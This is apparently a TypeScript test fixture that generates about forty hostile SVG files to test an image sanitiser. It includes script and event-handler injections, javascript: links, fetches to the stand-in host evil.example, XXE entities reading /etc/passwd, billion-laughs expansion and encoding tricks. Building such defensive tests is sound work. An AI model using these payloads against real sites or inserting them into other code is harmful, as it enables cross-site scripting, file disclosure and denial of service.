import { gzipSync } from 'node:zlib';
import type { HostileFile } from './files.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const drawing = (inside: string, size = 'width="60" height="40"') =>
  `<svg ${NS} ${size}><rect width="30" height="40" fill="#c00"/>${inside}</svg>`;

/** Drawings that want to run, to fetch, to read a file, to grow without end, or to be something else to another reader. */
export function hostileDrawings(): HostileFile[] {
  const written: Record<string, string> = {
    'a script': drawing('<script>alert(1)</script>'),
    'a script from elsewhere': drawing('<script xlink:href="https://evil.example/x.js"/>'),
    'a script in another case': drawing('<SCRIPT>alert(1)</SCRIPT>'),
    'a script under a prefix': drawing('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    'a handler of its loading': `<svg ${NS} onload="alert(1)" width="60" height="40"><rect width="9" height="9"/></svg>`,
    'a handler of a press': drawing('<rect onclick="alert(1)" onmouseover="alert(1)" width="9" height="9"/>'),
    'a page inside': drawing(
      '<foreignObject width="60" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    ),
    'a link that runs': drawing('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    'a link that runs, spelled in numbers': drawing(
      '<a href="&#106;&#97;vascript:alert(1)"><rect width="9" height="9"/></a>',
    ),
    'a picture from elsewhere': drawing('<image href="https://evil.example/x.png" width="9" height="9"/>'),
    'a picture of a file': drawing('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    'a picture in itself': drawing('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>'),
    'a part from elsewhere': drawing('<use href="https://evil.example/x.svg#a"/>'),
    'a part of a file': drawing('<use xlink:href="file:///etc/passwd#a"/>'),
    'a style from elsewhere': drawing('<style>@import url(https://evil.example/x.css);</style>'),
    'a style that fetches': drawing('<style>rect{fill:url(https://evil.example/x.svg#a)}</style>'),
    'a style that fetches, spelled with a backslash': drawing(
      '<style>rect{fill:u\\72l(https://evil.example/x)}</style>',
    ),
    'a style attribute that fetches': drawing('<rect style="background:url(//evil.example/x)" width="9" height="9"/>'),
    'a sheet before it': `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${drawing('')}`,
    'an animated link': drawing(
      '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="9" height="9"/></a>',
    ),
    'a changed handler': drawing('<set attributeName="onload" to="alert(1)"/>'),
    'a script in a literal': drawing('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
    'a literal that opens a script': drawing('<![CDATA[<]]>script>alert(1)<![CDATA[<]]>/script>'),
    'laughs without end': `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${drawing('<text>&c;</text>')}`,
    'an entity that reads a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
    'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${drawing('')}`,
    'an entity nobody defined': drawing('<text>&nobody;</text>'),
    '16000 by 16000 dots': drawing('', 'width="16000" height="16000"'),
    '1e9 by 1e9 dots': drawing('', 'width="1e9" height="1e9"'),
    'no size at all': drawing('', 'width="0" height="0"'),
    'parts of parts of parts': drawing(partsOfParts()),
    'a million shapes': drawing('<rect width="1" height="1"/>'.repeat(60_000)),
    'a deep hole': drawing(`${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}`),
    'a filter': drawing(
      '<filter id="f"><feImage href="https://evil.example/x"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    'UTF-7': '<?xml version="1.0" encoding="UTF-7"?>+ADw-svg onload+AD0AIg-alert(1)+ACIAPg-',
    'another document behind it': `${drawing('')}${drawing('<script>alert(1)</script>')}`,
    'tags that do not match': `<svg ${NS} width="60" height="40"><g></svg></g>`,
    'an attribute without quotes': `<svg ${NS} width=60 height=40 onload=alert(1)></svg>`,
    HTML: '<!doctype html><html><script>alert(1)</script></html>',
  };
  const files = Object.entries(written).map(([what, text]) => ({
    what,
    bytes: Buffer.from(text),
    marker: 'evil.example',
  }));
  const utf16 = Buffer.from(`\ufeff${drawing('<script>alert(1)</script>')}`, 'utf16le');
  return [
    ...files,
    { what: 'UTF-16', bytes: utf16 },
    { what: 'a packed drawing', bytes: gzipSync(drawing('')) },
    { what: 'a zero byte', bytes: Buffer.from(drawing('<title>\0</title>')) },
  ];
}

function partsOfParts(): string {
  let parts = '<g id="p0"><rect width="1" height="1"/></g>';
  for (let n = 1; n < 12; n++) parts += `<g id="p${n}">${`<use xlink:href="#p${n - 1}"/>`.repeat(10)}</g>`;
  return `<defs>${parts}</defs><use xlink:href="#p11"/>`;
}
